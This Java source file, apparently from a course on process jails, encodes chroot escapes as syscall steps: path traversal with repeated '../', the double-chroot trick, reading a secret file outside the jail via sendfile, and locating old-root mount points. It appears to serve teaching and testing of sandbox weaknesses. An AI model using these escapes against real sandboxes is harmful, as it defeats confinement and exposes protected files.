package slipway.lessons.jail;

import static slipway.linux.Constants.AT_FDCWD;
import static slipway.linux.Constants.O_RDONLY;

import java.io.IOException;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import slipway.linux.Arg;
import slipway.linux.Call;
import slipway.linux.Family;
import slipway.linux.MountInfo;
import slipway.linux.Syscall;
import slipway.plan.Step;
import slipway.plan.Steps;
import slipway.plan.launch.Child;

/** Ways out of a jail, as steps of a process in it, the last of which opens a file outside. */
final class Ways {
    private static final String UP = "../".repeat(32);
    private static final int STDOUT = 1;
    private static final int MUCH = 4096;

    private Ways() {}

    /** From a working directory outside. */
    static Step[] byRelativePath(Path secret) {
        return new Step[] {open(UP + secret.toString().substring(1))};
    }

    /** Course fact F2. */
    static Step[] bySecondRoot(Path secret) {
        return new Step[] {
            Steps.mkdir("out", 0755),
            Steps.chroot("out"),
            Steps.chdir(UP),
            Steps.chroot("."),
            open(secret.toString())
        };
    }

    static Step[] at(String path) {
        return new Step[] {open(path)};
    }

    /** Writes a file to descriptor 1. */
    static Step[] tell(String path) {
        Call send =
                Call.of(
                        Syscall.SENDFILE,
                        Arg.num(STDOUT),
                        Arg.result("file"),
                        Arg.NULL,
                        Arg.num(MUCH));
        return new Step[] {open(path), Step.call("tell what it holds", send)};
    }

    private static Step open(String path) {
        return Step.call(
                        "open " + path,
                        Call.of(
                                Syscall.OPENAT,
                                Arg.flag(AT_FDCWD, Family.DIRFD),
                                Arg.text(path),
                                Arg.flag(O_RDONLY, Family.OPEN),
                                Arg.mode(0)))
                .as("file");
    }

    /**
     * Where in a jail the old root may be: the mount points right below its root. A mount that lies
     * on / itself is found by .. only.
     */
    static List<String> oldRoots(Child inJail) throws IOException {
        List<MountInfo.Mount> mounts = MountInfo.ofPid(inJail.pid()).mounts();
        List<String> found = new ArrayList<>();
        for (MountInfo.Mount mount : mounts) {
            boolean isRoot = mounts.stream().noneMatch(other -> isBelow(mount, other));
            if (isRoot) continue;
            String point = mount.mountPoint();
            found.add(point.equals("/") ? "/.." : point);
        }
        return found;
    }

    private static boolean isBelow(MountInfo.Mount mount, MountInfo.Mount other) {
        return other.id() == mount.parent() && other.id() != mount.id();
    }
}
